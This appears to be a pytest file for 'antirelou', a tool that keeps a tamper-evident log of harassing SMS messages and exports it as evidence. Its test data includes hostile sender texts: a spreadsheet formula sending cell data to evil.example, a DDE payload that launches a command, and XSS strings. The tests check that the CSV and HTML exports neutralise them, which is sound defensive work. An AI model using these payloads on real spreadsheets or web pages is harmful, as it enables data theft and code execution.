"""The evidence commands through the real CLI on a real log: export in each format (the JSON
verified on its own, hostile texts neutralised in the CSV and escaped in the HTML, the PDF
rendered to PNG), verify's exit codes, flag and unflag, purge, and every look recorded."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from evidence_log import START, THREAT, config_for, receive, tamper

from antirelou import exits, livestate
from antirelou.cli import main as cli
from antirelou.export.csv_format import FORMULA_STARTS
from antirelou.heartbeat import Heartbeat
from antirelou.store import Store

HOSTILE = [
    ("+33622222222", '=HYPERLINK("http://evil.example/?"&A1,"cliquez")'),
    ("+33622222222", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+33644444444", "-2+3 et <script>alert('x')</script> & <b>gras</b>"),
    ("+33644444444", '"><img src=x onerror="alert(1)">'),
    ("+33655555555", "\tfin"),
    ("+33633333333", THREAT),
]


@pytest.fixture
def setup(tmp_path):
    database = str(tmp_path / "data" / "antirelou.db")
    path = tmp_path / "antirelou.yaml"
    path.write_text(f"modem:\n  port: /dev/x\ndatabase: {database}\n", encoding="utf-8")
    config = config_for(database)
    with Store(database) as store:
        receive(store, config, HOSTILE)
    return str(path), database, tmp_path


def _run(*arguments: str) -> int:
    return cli(list(arguments))


def test_a_json_export_round_trips_through_verify_export_alone(setup, capsys):
    config, _, folder = setup
    out = str(folder / "dossier.json")
    assert _run("export", "-c", config, "--format", "json", "--out", out) == exits.OK
    printed = capsys.readouterr().out
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    document = json.loads(open(out, encoding="utf-8").read())
    assert f"checkpoint: {document['checkpoint']['text']}" in printed
    assert [message["text"] for message in document["messages"]] == [t for _, t in HOSTILE]
    # Checked by the file alone: no configuration, no database.
    assert _run("verify", "-c", "/nonexistent.yaml", "--export", out) == exits.OK
    assert "INTÈGRE / INTACT" in capsys.readouterr().out
    document["messages"][0]["text"] = "Bonjour, rien à signaler"
    with open(out, "w", encoding="utf-8") as file:
        json.dump(document, file)
    assert _run("verify", "-c", "/nonexistent.yaml", "--export", out) == exits.ALTERED
    assert "ALTÉRÉ / ALTERED" in capsys.readouterr().out


def test_verify_exits_1_naming_the_first_altered_record(setup, capsys):
    config, database, _ = setup
    assert _run("verify", "-c", config) == exits.OK
    assert "INTÈGRE / INTACT" in capsys.readouterr().out
    tamper(database, "UPDATE messages SET text = 'rien' WHERE id = 6")
    assert _run("verify", "-c", config) == exits.ALTERED
    assert "(message 6)" in capsys.readouterr().out
    assert _run("verify", "-c", config, "--checkpoint", "antirelou 12 abc") == exits.DATAERR


def test_the_csv_export_neutralises_every_formula_a_sender_wrote(setup):
    config, _, folder = setup
    out = str(folder / "dossier.csv")
    assert _run("export", "-c", config, "--format", "csv", "--out", out) == exits.OK
    rows = list(csv.reader(io.StringIO(open(out, encoding="utf-8-sig").read())))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert "'" + HOSTILE[0][1] in cells and "'\tfin" in cells


def test_the_html_export_escapes_everything_a_sender_wrote(setup):
    config, _, folder = setup
    out = str(folder / "dossier.html")
    assert _run("export", "-c", config, "--format", "html", "--out", out) == exits.OK
    page = open(out, encoding="utf-8").read()
    assert "<script>alert" not in page and "<img src=x" not in page and "<b>gras" not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &lt;b&gt;gras&lt;/b&gt;" in page


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="poppler-utils not installed")
def test_the_pdf_export_renders_to_png_pages(setup):
    config, _, folder = setup
    out = str(folder / "dossier.pdf")
    assert _run("export", "-c", config, "--format", "pdf", "--out", out) == exits.OK
    subprocess.run(["pdftoppm", "-r", "30", "-png", out, str(folder / "page")], check=True)
    pages = sorted(folder.glob("page-*.png"))
    assert len(pages) >= 3  # cover; chart, senders and messages; how to verify
    from PIL import Image

    with Image.open(pages[0]) as cover:
        darkest, _ = cover.convert("L").getextrema()
    assert darkest < 100  # there is text on the cover


def test_export_filters_by_sender_flag_and_period(setup, capsys):
    config, _, folder = setup
    out = str(folder / "f.json")
    assert _run("export", "-c", config, "--format", "json", "--out", out, "--flagged") == 0
    flagged = json.loads(open(out, encoding="utf-8").read())
    assert [message["id"] for message in flagged["messages"]] == [6]
    assert [flag["rule"] for flag in flagged["messages"][0]["flags"]] == [
        "death_threat",
        "weapon",
        "whereabouts",
    ]
    args = ["--sender", "0622222222", "--since", "2026-03-08", "--until", "2026-03-08"]
    assert _run("export", "-c", config, "--format", "json", "--out", out, *args) == 0
    chosen = json.loads(open(out, encoding="utf-8").read())
    assert [message["id"] for message in chosen["messages"]] == [1, 2]
    wrong = str(folder / "wrong.json")
    assert _run("export", "-c", config, "--format", "json", "--out", wrong, "--since", "hier") == 65
    assert not os.path.exists(wrong)


def test_flag_and_unflag_change_log_flagged_and_every_log_row_has_flags(setup, capsys):
    config, _, _ = setup
    assert _run("flag", "-c", config, "1", "--reason", "menace voilée") == exits.OK
    capsys.readouterr()
    assert _run("log", "-c", config, "--json", "--flagged") == exits.OK
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [row["id"] for row in rows] == [1, 6]
    assert rows[0]["flags"][0]["rule"] == "manual"
    assert rows[0]["flags"][0]["reason"] == "menace voilée"
    assert _run("unflag", "-c", config, "1") == exits.OK
    capsys.readouterr()
    assert _run("log", "-c", config, "--json") == exits.OK
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [bool(row["flags"]) for row in rows] == [False] * 5 + [True]
    assert _run("flag", "-c", config, "99", "--reason", "x") == exits.DATAERR


def test_purge_dry_run_says_what_would_go_and_changes_nothing(setup, capsys):
    config, database, _ = setup
    assert _run("purge", "-c", config, "--dry-run") == exits.OK
    assert "would erase" in capsys.readouterr().out
    with Store(database, readonly=True) as store:
        assert store.read("SELECT COUNT(*) FROM purges")[0][0] == 0


def test_every_look_and_change_is_recorded_and_shown_by_status(setup, capsys):
    config, database, folder = setup
    _run("export", "-c", config, "--format", "json", "--out", str(folder / "x.json"))
    _run("verify", "-c", config)
    _run("flag", "-c", config, "2", "--reason", "insulte")
    _run("unflag", "-c", config, "2")
    _run("block", "-c", config, "+33622222222")
    _run("unblock", "-c", config, "+33622222222")
    now = datetime.now(UTC)
    livestate.write(
        livestate.write_path(database),
        Heartbeat(pid=os.getpid(), at=now, started_at=now, state="running"),
    )
    capsys.readouterr()
    assert _run("status", "-c", config) == exits.OK
    shown = capsys.readouterr().out
    for command in ("unblock", "block", "unflag", "flag", "verify"):
        assert f": {command} (" in shown
    assert _run("status", "-c", config, "--json") == exits.OK
    status = json.loads(capsys.readouterr().out)
    assert [record["command"] for record in status["recent_access"]] == [
        "unblock",
        "block",
        "unflag",
        "flag",
        "verify",
    ]
    assert status["checkpoint"]["text"].startswith("antirelou ")
    # Everything done is in the log, and the log is intact.
    assert _run("verify", "-c", config) == exits.OK
    assert START  # the log's messages are from START: exports ran on them


def _readme_verifier() -> str:
    """The Python the README gives a third party to redo the computation by hand."""
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    blocks = re.findall(r"```python\n(# verify\.py.*?)```", readme, re.DOTALL)
    assert len(blocks) == 2 and blocks[0] == blocks[1]  # French and English halves
    return blocks[0]


def test_the_readmes_verifier_redoes_an_export_without_antirelou(setup, tmp_path):
    config, _, folder = setup
    out = str(folder / "dossier.json")
    assert _run("export", "-c", config, "--format", "json", "--out", out) == exits.OK
    script = tmp_path / "verify.py"
    script.write_text(_readme_verifier(), encoding="utf-8")
    # -I: isolated, so that nothing of antirelou can be imported.
    done = subprocess.run([sys.executable, "-I", str(script), out], capture_output=True, text=True)
    assert done.returncode == 0 and done.stdout.startswith("OK: antirelou "), done.stderr
    document = json.loads(open(out, encoding="utf-8").read())
    document["messages"][2]["text"] = "rien"
    with open(out, "w", encoding="utf-8") as file:
        json.dump(document, file, ensure_ascii=False)
    done = subprocess.run([sys.executable, "-I", str(script), out], capture_output=True, text=True)
    assert done.returncode != 0 and "AssertionError: 3" in done.stderr
